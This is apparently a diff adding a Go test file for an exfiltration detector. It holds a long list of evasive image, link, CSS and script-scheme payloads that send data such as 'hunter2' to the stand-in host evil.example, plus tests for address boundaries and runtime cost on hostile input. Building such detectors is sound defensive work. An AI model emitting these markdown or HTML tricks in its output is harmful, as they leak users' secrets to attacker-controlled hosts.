@@ -1,0 +1,119 @@
+package exfil_test
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/holdfast-ai/holdfast/guard/detect/exfil"
+	"github.com/holdfast-ai/holdfast/internal/testkit"
+)
+
+// Ways to write an address that browsers and renderers follow: something of each is found, so that what is left goes nowhere.
+var written = map[string][]string{
+	exfil.RuleImage: {
+		// Without a scheme.
+		"[r]: //evil.example/a.png", "![x]( //evil.example/a.png)", "<img src= //evil.example/a.png>", "<img srcset=\"a.png 1x, //evil.example/b.png 2x\">",
+		"<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<meta http-equiv=refresh content=\"0;//evil.example/\">", "<img src=//evil.example/a.png>",
+		"<img src=\\\\evil.example\\a.png>", "<base href=//evil.example/>", "<object data=//evil.example/x>", "<video poster=//evil.example/x>", "<form action=//evil.example/x>",
+		"<button formaction=//evil.example/x>", "<a ping=//evil.example/x href=/>", "<link rel=dns-prefetch href=//c2VjcmV0.evil.example>", "<style>@import url(//evil.example/a)</style>",
+		"<iframe srcdoc='&lt;img src=//evil.example/a&gt;'>", "<img src=\"\x01//evil.example/a.png\">",
+		// With tabs and ends of lines, which browsers take out.
+		"<img src=\"\t//evil.example/a.png\">", "<img src=\"https:\n//evil.example/a.png\">", "<img src=\"/\n/evil.example/a.png\">", "<img src=\"htt\nps:/\n/evil.example/a.png\">",
+		"<img src=\"\nhttps://docs.example.com\t.evil.example/a.png\">", "<img src=' https://docs.example.com\t.evil.example/a.png'>", "<img src=\"/&Tab;/evil.example/a.png\">",
+		// Hosts of other forms, and hosts that only some take for allowed ones.
+		"<img src=\"https://[2001:db8::1]/a.png\">", "![x](https://u@[2001:db8::1]:8443/a.png)", "![x](https://0x7f000001/a.png)", "![x](https://xn--docs-example.com/a.png)", "![x](https://evil.example./a.png)",
+		"![x](https://evil。example/a.png)", "<img src=https://evil.example／.cdn.example.com/a.png>", "<img src=https://evil.example%2f.cdn.example.com/a.png>",
+		"![x](https://evil.example#.cdn.example.com/a.png)", "![x](https://evil.example?.cdn.example.com/a.png)", "<img src='https://docs.example.com%00.evil.example/'>",
+		"<img src=\"https://docs.example.com\u200b.evil.example/a.png\">", "<img src=ftp:evil.example/a>", "<img src=ws://evil.example/a>",
+		// Other uses.
+		"<svg><script href=\"https://evil.example/a.js\"/>", "<img alt='>' src\n=\n\"https://evil.example/a.png\">", "<style>a{background:image-set(\"a.png\" 1x, \"https://evil.example/a.png\" 2x)}",
+		"[img]https://evil.example/a.png[/img]", "image::https://evil.example/a.png[]", ".. image:: https://evil.example/a.png", "\\includegraphics{https://evil.example/a.png}", "![[https://evil.example/a.png]]",
+		"<style>@import'https://evil.example/a.css'</style>", "<img\fsrc\f=\fhttps://evil.example/a>", "![x](\nhttps://evil.example/a.png\n)", "![r]\n\n[r]:\n   <https://evil.example/a.png>",
+	},
+	exfil.RuleLink: {
+		// Data behind bytes that end words, and end no address.
+		"[a](https://evil.example/?d=secret,password,is,hunter2,and,more)", "see https://evil.example/?d={secret}{password}{is}{hunter2}", "see https://evil.example/?d=secret|password|is|hunter2|and",
+		"[a](https://evil.example/?d=(secret)(password)(is)(hunter2))", "[a](https://evil.example/?d=my\"secret\"password\"is\"hunter2)", "[a](https://evil.example/?d=my<secret<password<is<hunter2)",
+		"[a](https://evil.example/?d=my`secret`password`is`hunter2)", "[a](https://evil.example/?d=my'secret'password'is'hunter2)", "[a](https://evil.example/?d=my]secret]password]is]hunter2)",
+		"[a](<https://evil.example/?q=my secret password is hunter2>)", "<a href=\"https://evil.example/?q=my secret password is hunter2\">", "<a href='https://evil.example/?q=my\nsecret\npassword\nis\nhunter2'>",
+		"<a href=https://evil.example/?d=my'secret'password'is'hunter2>x</a>", "www.evil.example/?d=secret,password,is,hunter2,and,more",
+		// In the name of a user, and by mail.
+		"[a](https://c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n@evil.example/)", "[a](mailto:m@evil.example?body=my%20secret%20password%20is)",
+	},
+	exfil.RuleScheme: {
+		"<a href=\"java\nscript:alert(1)\">", "<a href=\"java\nscript://x%0aalert(1)\">", "<a href=\"java&Tab;script:alert(1)\">", "<a href=\"java&#10;script:alert(1)\">", "<a href=' \x01javascript:alert(1)'>",
+		"<iframe src=\"data: text/html,x\">", "<iframe src=\"data:text/xml,x\">", "<a href=\"javascript:\nalert(1)\">",
+	},
+}
+
+func TestWritten(t *testing.T) {
+	h := hosts(t)
+	for rule, texts := range written {
+		for _, text := range texts {
+			if ms := find(h, text); len(ms) == 0 || ms[0].Rule != rule {
+				t.Errorf("%q: %+v, want %s", text, ms, rule)
+			}
+		}
+	}
+}
+
+// What ends words in prose and code ends addresses there: what follows is no data of theirs.
+func TestAddressesEnd(t *testing.T) {
+	h := hosts(t)
+	for _, text := range []string{
+		"https://a.example/?q=1,https://b.example/?q=2,https://c.example/?q=3", "(https://a.example/?q=1),as,was,said,before,it,all", "<https://a.example/?q=1>,which,is,what,was,meant,here",
+		`{"url":"https://a.example/?q=1","name":"Bob Smith","city":"Bremen","street":"Am Wall"}`, "'https://a.example/?q=1','what','was','asked','for','here'", "see \"https://a.example/?q=1\",\"what\",\"was\",\"asked\",\"for\"",
+		"https://a.example/?q=1 is a page about harbours, and about much more than those", "<a href=\"https://a.example/?q=1\">a page about harbours, and about more</a>", "<a href=https://a.example/?q=1>a,page,about,harbours,and,more</a>",
+		"[a](https://a.example/?q=1),[b](https://b.example/?q=2)", "x = \"https://a.example/doc explains what this is, and what it is good for\"", "s += \"\\n//\\n\" // so that what follows is on a line of its own, and no other",
+		"re = '\\\\d+\\\\.\\\\d{3,40}[abcdefghijklmnopqrstuvwxyz]+[abcdefghijklmnop]'", "x := f(a, //nolint:all-of-these-are-as-they-should-be-here", "a = b; //----------------------------------------------------",
+		"mail help@a.example", "mailto:help@a.example", "https://user@a.example/", "fe80::1%eth0", "m[k] = v[//comment]",
+	} {
+		if ms := find(h, text); len(ms) > 0 {
+			t.Errorf("%q: %+v, %q", text, ms, text[ms[0].Start:ms[0].End])
+		}
+	}
+}
+
+// What an address carries is found to its end, however long it is, and nothing behind it.
+func TestAddressesAreFoundToTheirEnd(t *testing.T) {
+	h := hosts(t)
+	for _, form := range []string{"see https://evil.example/?d=", "<a href=\"https://evil.example/?d="} {
+		text := form + strings.Repeat("word,", 200) + "word\" and this is a sentence that says, and means, nothing"
+		ms := find(h, text)
+		if len(ms) == 0 || ms[len(ms)-1].End != strings.Index(text, "\" and") || len(ms) < 190 {
+			t.Errorf("%s: %d found", form, len(ms))
+		}
+	}
+}
+
+// No text costs more with the square of its length, or very many times what prose does.
+func TestHostileTextsCostNoMore(t *testing.T) {
+	if testkit.Race {
+		t.Skip("the race detector costs where most is looked at")
+	}
+	h := hosts(t)
+	cost := func(text string) time.Duration {
+		b := strings.Repeat(text, 50_000/len(text))
+		best := time.Hour
+		for range 5 {
+			from := time.Now()
+			find(h, b)
+			best = min(best, time.Since(from))
+		}
+		return best
+	}
+	for name, unit := range map[string]string{
+		"letters": "a", "slashes": "/", "colons": "a:", "lines of an attribute": "=\"a\n", "words of an attribute": "=\"" + strings.Repeat("a:\n", 80), "addresses": "a://b ", "references": "=\"&amp;/\n",
+		"data": "https://a.example/?q=" + strings.Repeat("a,", 100), "controls": "\x01", "schemes": "javascript:", "brackets": "//[", "quotes": "='", "images": "![",
+	} {
+		c, base := time.Hour, time.Nanosecond
+		for round := 0; round < 5 && c > 150*base; round++ { // the machine is shared
+			base, c = cost("The harbour opens at six in the morning. "), cost(unit)
+		}
+		if c > 150*base {
+			t.Errorf("%s: %d times the cost of prose", name, c/base)
+		}
+		t.Logf("%s: %d", name, c/base)
+	}
+}
